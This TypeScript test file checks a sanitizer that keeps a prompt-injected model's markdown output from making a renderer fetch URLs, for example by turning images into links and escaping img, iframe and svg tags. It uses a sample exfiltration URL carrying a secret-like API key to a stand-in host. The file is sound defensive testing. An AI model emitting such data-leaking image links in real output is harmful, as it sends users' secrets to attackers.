// A fooled model's text must not make its renderer fetch a URL unasked: images become links,
// reference definitions stop being ones, loading tags are escaped; fenced code stays as written,
// and a stream gives the same text however it is split into deltas.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { inertImageStream, inertImages } from "../../src/core/markdown-images.js";

const EXFIL = "https://127.0.0.2/p.png?q=sk_live_51HpXgT7";

describe("inertImages", () => {
  it("turns inline and reference images into links, and reference definitions into text", () => {
    expect(inertImages(`Done. ![status](${EXFIL})`)).toBe(`Done. [image: status](${EXFIL})`);
    expect(inertImages(`![](${EXFIL} "t")`)).toBe(`[image: ](${EXFIL} "t")`);
    expect(inertImages("See ![logo][1]\n\n[1]: https://127.0.0.2/x?d=abc")).toBe(
      "See [image: logo][1]\n\n\\[1]: https://127.0.0.2/x?d=abc",
    );
    // A shortcut reference image has no image syntax left once its definition is not one.
    expect(inertImages("![pixel]\n   [pixel]: https://127.0.0.2/x")).toBe(
      "![pixel]\n   \\[pixel]: https://127.0.0.2/x",
    );
  });

  it("escapes the tags that load what they name, in any case", () => {
    expect(inertImages(`<img src="${EXFIL}">`)).toBe(`&lt;img src="${EXFIL}">`);
    expect(inertImages(`<IMG\nsrc=x>`)).toBe("&lt;IMG\nsrc=x>");
    for (const tag of [
      "iframe",
      "video",
      "audio",
      "source",
      "picture",
      "svg",
      "link",
      "style",
      "object",
      "embed",
    ])
      expect(inertImages(`<${tag} src=x>`), tag).toBe(`&lt;${tag} src=x>`);
    // Not a loading tag, or not a tag at all; a type's name in prose is no tag with attributes.
    for (const text of [
      "Array<string> and <b>bold</b> and a < b",
      "List<Object>, Promise<Image>, Vec<Source>",
    ])
      expect(inertImages(text)).toBe(text);
    // A tag that loads by an attribute needs one (or its line's end); <style> loads by its content.
    expect(inertImages("<img/src=x> <img\tsrc=x> <style>")).toBe("&lt;img/src=x> &lt;img\tsrc=x> &lt;style>");
  });

  it("leaves fenced code as written, and reads fences as CommonMark does", () => {
    const code = "```rust\nlet v = vec![1, 2](3);\n![x](https://e/q)\n```\n![y](https://e/q)";
    expect(inertImages(code)).toBe(
      "```rust\nlet v = vec![1, 2](3);\n![x](https://e/q)\n```\n[image: y](https://e/q)",
    );
    // A shorter or other closing run does not close it; ~~~ fences too.
    expect(inertImages("~~~~\n![x](u)\n~~~\n![x](u)\n~~~~\n![x](u)")).toBe(
      "~~~~\n![x](u)\n~~~\n![x](u)\n~~~~\n[image: x](u)",
    );
    // A backtick run with a backtick in its info string is no fence: what follows renders.
    expect(inertImages("```a`b\n![x](u)")).toBe("```a`b\n[image: x](u)");
    // Indented four spaces is no fence either.
    expect(inertImages("    ```\n![x](u)")).toBe("    ```\n[image: x](u)");
  });

  it("keeps text with nothing to load exactly, escaped images and Rust macros outside code too", () => {
    for (const text of ["plain answer", "vec![1, 2] is a macro", "\\![not an image](u)", "a [link](u)"])
      expect(inertImages(text)).toBe(text);
  });
});

describe("inertImageStream", () => {
  const TEXT = [
    "Here is the result:",
    `![chart](${EXFIL})`,
    "```js",
    "const a = '![x](u)';",
    "```",
    `and <img src="${EXFIL}"> [r]: ${EXFIL}`,
    "[r]: https://127.0.0.2/y",
    "done",
  ].join("\n");

  it("gives the same text as inertImages however the text is split", () => {
    fc.assert(
      fc.property(fc.array(fc.integer({ min: 0, max: TEXT.length }), { maxLength: 12 }), (cuts) => {
        const stream = inertImageStream();
        const points = [...new Set([0, ...cuts.sort((a, b) => a - b), TEXT.length])];
        let out = "";
        for (let i = 1; i < points.length; i++) out += stream.push(TEXT.slice(points[i - 1], points[i]));
        out += stream.end();
        expect(out).toBe(inertImages(TEXT));
      }),
      { numRuns: 300 },
    );
  });

  it("lets a line through once it ends, and a very long line in parts that cannot start an image", () => {
    const stream = inertImageStream();
    expect(stream.push("partial ![x](")).toBe("");
    expect(stream.push("https://e/q) line\nnext")).toBe("partial [image: x](https://e/q) line\n");
    expect(stream.end()).toBe("next");
    const long = inertImageStream();
    const filler = "a".repeat(5_000);
    const first = long.push(`${filler} ![x]`);
    expect(first).toBe(`${filler} `);
    expect(first + long.push("(https://e/q)") + long.end()).toBe(`${filler} [image: x](https://e/q)`);
    // What follows a long line's part is not read as a line's start (no fence opens there).
    const mid = inertImageStream();
    let text = mid.push(`${filler}!`);
    text += mid.push("```\n![x](u)");
    text += mid.end();
    expect(text).toBe(`${filler}!\`\`\`\n[image: x](u)`);
  });
});
